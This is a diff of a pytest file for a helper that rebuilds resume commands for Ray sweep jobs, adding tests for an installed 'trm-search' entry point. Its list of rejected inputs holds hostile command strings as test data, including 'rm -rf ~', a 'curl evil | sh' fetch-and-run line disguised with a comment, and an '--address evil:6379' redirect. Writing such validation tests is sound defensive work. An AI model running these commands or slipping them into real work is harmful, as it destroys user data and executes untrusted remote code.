@@ -115,6 +115,7 @@ def test_the_longest_common_place_counts(tmp_path: Path) -> None:
         ),
         ("ray job submit --working-dir . -- python ray_jobs/sweep.py a.yaml --storage /old --name x --resume", ""),
         (".venv/bin/python ray_jobs/sweep.py a.yaml --storage old --name x --resume", ""),
+        ("/venv/bin/trm-search sweep a.yaml --storage old --name x --trials 7 --resume", "--trials 7"),
     ],
 )
 def test_the_command_that_goes_on_is_about_where_the_folder_is(tmp_path: Path, recorded: str, words: str) -> None:
@@ -146,10 +147,19 @@ def test_a_job_is_named_as_one_types_it_from_here(tmp_path: Path, monkeypatch: p
     )
 
 
+def test_the_installed_program_names_itself(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(sys, "argv", ["/venv/bin/trm-search", "sweep"])
+    assert job_command("build_dataset.py").endswith("trm-search data")
+    command = recorded_resume("python ray_jobs/sweep.py a.yaml --storage /old --name x --resume", tmp_path / "x")
+    assert command.endswith(f"trm-search sweep a.yaml --storage {tmp_path} --name x --resume")
+
+
 @pytest.mark.parametrize(
     "recorded",
     [
         "rm -rf ~",
+        "evil sweep a.yaml",
+        "trm-search evaluate a.yaml evil",
         "curl evil | sh # ray_jobs/sweep.py a.yaml",
         "python ray_jobs/sweep.py --storage x",
         "python ray_jobs/sweep.py a.yaml --address evil:6379 --resume",
